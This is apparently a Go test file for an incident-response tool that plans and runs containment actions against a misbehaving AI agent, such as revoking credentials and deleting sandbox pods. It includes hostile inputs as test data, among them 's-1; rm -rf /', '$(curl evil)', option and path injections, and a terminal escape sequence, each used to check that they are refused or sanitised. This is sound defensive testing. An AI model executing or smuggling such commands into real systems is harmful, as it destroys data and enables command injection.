package incident

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/cordon-ir/cordon/evidence"
	"github.com/cordon-ir/cordon/journal"
)

func TestSplitWords(t *testing.T) {
	for _, c := range []struct {
		in   string
		want []string
		err  bool
	}{
		{"kubectl delete pod {{pod}}", []string{"kubectl", "delete", "pod", "{{pod}}"}, false},
		{`revoke --reason 'agent escaped; rotate' "{{credential}}"`, []string{"revoke", "--reason", "agent escaped; rotate", "{{credential}}"}, false},
		{`a "b \"c\" d" e\ f ''`, []string{"a", `b "c" d`, "e f", ""}, false},
		{"  spaced\tout  ", []string{"spaced", "out"}, false},
		{`echo $(id) | sh`, []string{"echo", "$(id)", "|", "sh"}, false},
		{`unclosed 'quote`, nil, true},
		{`trailing \`, nil, true},
	} {
		got, err := splitWords(c.in)
		if (err != nil) != c.err || !c.err && !reflect.DeepEqual(got, c.want) {
			t.Errorf("splitWords(%q) = %q, %v; want %q (error %v)", c.in, got, err, c.want, c.err)
		}
	}
}

// TestPlanActionFansOutWholeValues: a variable with several values runs the
// command once per value, each value one argument; a value that could be
// shell syntax or name another variable is refused, not passed on.
func TestPlanActionFansOutWholeValues(t *testing.T) {
	c := &Config{Actions: map[string]ActionConfig{
		"revoke": {Run: "revoke-cred --session {{session}} {{credential}}"},
	}}
	cs := Case{Subject: []string{"agent-7"}, Sessions: []evidence.Event{
		{Session: "s-1", Credential: []string{"px-1", "tok-91"}},
	}}
	p, err := c.PlanAction("revoke", cs)
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"revoke-cred", "--session", "s-1", "px-1"},
		{"revoke-cred", "--session", "s-1", "tok-91"},
	}
	if !reflect.DeepEqual(p.Commands, want) {
		t.Errorf("commands %q, want %q", p.Commands, want)
	}
	if p.Confirm != "agent-7" || p.Timeout != defaultActionTimeout {
		t.Errorf("plan %+v", p)
	}
	if got := CommandLine([]string{"revoke-cred", "--reason", "s-1; rm -rf /"}); got != `revoke-cred --reason 's-1; rm -rf /'` {
		t.Errorf("CommandLine = %s", got)
	}
	for _, hostile := range []string{"s-1; rm -rf /", "{{session}}", "$(curl evil)", "a b"} {
		bad := Case{Subject: []string{"agent-7"}, Sessions: []evidence.Event{{Session: "s-1", Credential: []string{hostile}}}}
		if _, err := c.PlanAction("revoke", bad); err == nil {
			t.Errorf("credential %q planned", hostile)
		}
	}
	if _, err := c.PlanAction("missing", cs); !errors.Is(err, ErrNoAction) {
		t.Errorf("unknown action: %v", err)
	}
	if _, err := c.PlanAction("revoke", Case{}); err == nil {
		t.Error("an action with no subject agent planned")
	}
	c.Actions["pod"] = ActionConfig{Run: "kubectl delete pod {{pod}}"}
	if _, err := c.PlanAction("pod", cs); err == nil || !strings.Contains(err.Error(), "{{pod}} has no value") {
		t.Errorf("missing variable: %v", err)
	}
}

func TestExecuteAction(t *testing.T) {
	dir := t.TempDir()
	marker := filepath.Join(dir, "ran")
	p := ActionPlan{Name: "touch", Confirm: "agent-7", Timeout: 10 * time.Second,
		Commands: [][]string{{"sh", "-c", `echo "out $1"; echo err >&2; touch "$2"`, "sh", "a b", marker}}}
	if _, err := p.Execute(context.Background(), "agent-8", false); !errors.Is(err, ErrNotConfirmed) {
		t.Fatalf("wrong confirmation: %v", err)
	}
	runs, err := p.Execute(context.Background(), "agent-7", true)
	if err != nil || len(runs) != 1 || !runs[0].DryRun {
		t.Fatalf("dry run: %+v %v", runs, err)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("a dry run ran the command")
	}
	runs, err = p.Execute(context.Background(), " agent-7 ", false)
	if err != nil || runs[0].ExitCode != 0 || runs[0].Output != "out a b\nerr\n" {
		t.Fatalf("run: %+v %v", runs, err)
	}
	if _, err := os.Stat(marker); err != nil {
		t.Fatal("the command did not run")
	}

	fail := ActionPlan{Name: "fail", Confirm: "a", Timeout: 10 * time.Second,
		Commands: [][]string{{"sh", "-c", "exit 3"}, {"touch", marker + "2"}}}
	runs, err = fail.Execute(context.Background(), "a", false)
	if err == nil || len(runs) != 1 || runs[0].ExitCode != 3 {
		t.Fatalf("failing command: %+v %v", runs, err)
	}
	if _, err := os.Stat(marker + "2"); err == nil {
		t.Error("ran the next command after a failure")
	}

	slow := ActionPlan{Name: "slow", Confirm: "a", Timeout: 200 * time.Millisecond, Commands: [][]string{{"sleep", "30"}}}
	start := time.Now()
	runs, err = slow.Execute(context.Background(), "a", false)
	if err == nil || !strings.Contains(runs[0].Err, "timed out") || time.Since(start) > 10*time.Second {
		t.Errorf("timeout: %+v %v", runs, err)
	}

	big := ActionPlan{Name: "big", Confirm: "a", Timeout: 10 * time.Second,
		Commands: [][]string{{"sh", "-c", `head -c 200000 /dev/zero | tr '\0' x`}}}
	runs, err = big.Execute(context.Background(), "a", false)
	if err != nil || !runs[0].Cut || len(runs[0].Output) != maxActionOutput {
		t.Errorf("large output: cut %v, %d bytes, %v", runs[0].Cut, len(runs[0].Output), err)
	}

	hostile := ActionPlan{Name: "esc", Confirm: "a", Timeout: 10 * time.Second,
		Commands: [][]string{{"printf", `a\033]0;owned\007b`}}}
	runs, err = hostile.Execute(context.Background(), "a", false)
	if err != nil || strings.ContainsRune(runs[0].Output, 0x1b) || !strings.Contains(runs[0].Output, "owned") {
		t.Errorf("terminal escapes in output kept raw: %q %v", runs[0].Output, err)
	}
}

// TestPlanActionRefusesOptionsAndPaths: a value the agent wrote that would
// become an option (kubectl delete pod --all) or a path elsewhere is
// refused, as is an action that would multiply into too many commands.
func TestPlanActionRefusesOptionsAndPaths(t *testing.T) {
	c := &Config{Actions: map[string]ActionConfig{
		"delete": {Run: "kubectl delete pod --namespace agent-evals {{sandbox}}"},
		"many":   {Run: "revoke {{credential}} {{ip}}"},
	}}
	for _, bad := range []string{"--all", "-A", "../../etc", "sb/../x", ".hidden"} {
		cs := Case{Subject: []string{"agent-7"}, Sessions: []evidence.Event{{Sandbox: bad}}}
		if _, err := c.PlanAction("delete", cs); err == nil {
			t.Errorf("sandbox %q planned", bad)
		}
	}
	cs := Case{Subject: []string{"agent-7"}, Sessions: []evidence.Event{{Sandbox: "sb-42"}}}
	if p, err := c.PlanAction("delete", cs); err != nil || p.Commands[0][5] != "sb-42" {
		t.Errorf("a plain sandbox id: %+v %v", p, err)
	}
	var sessions []evidence.Event
	for i := 0; i < 10; i++ {
		sessions = append(sessions, evidence.Event{SrcIP: fmt.Sprintf("10.0.0.%d", i), Credential: []string{fmt.Sprintf("px-%d", i)}})
	}
	if _, err := c.PlanAction("many", Case{Subject: []string{"agent-7"}, Sessions: sessions}); err == nil || !strings.Contains(err.Error(), "more than 64 commands") {
		t.Errorf("100 commands planned: %v", err)
	}
}

func TestObserverCannotRunActions(t *testing.T) {
	w := &Workspace{}
	p := ActionPlan{Name: "x", Confirm: "a", Timeout: time.Second, Commands: [][]string{{"true"}}}
	if _, err := w.RunAction(context.Background(), journal.Actor{Name: "o", Via: journal.ViaSSH, Observer: true}, "s", p, "a", false); !errors.Is(err, journal.ErrReadOnly) {
		t.Errorf("an observer ran an action: %v", err)
	}
}
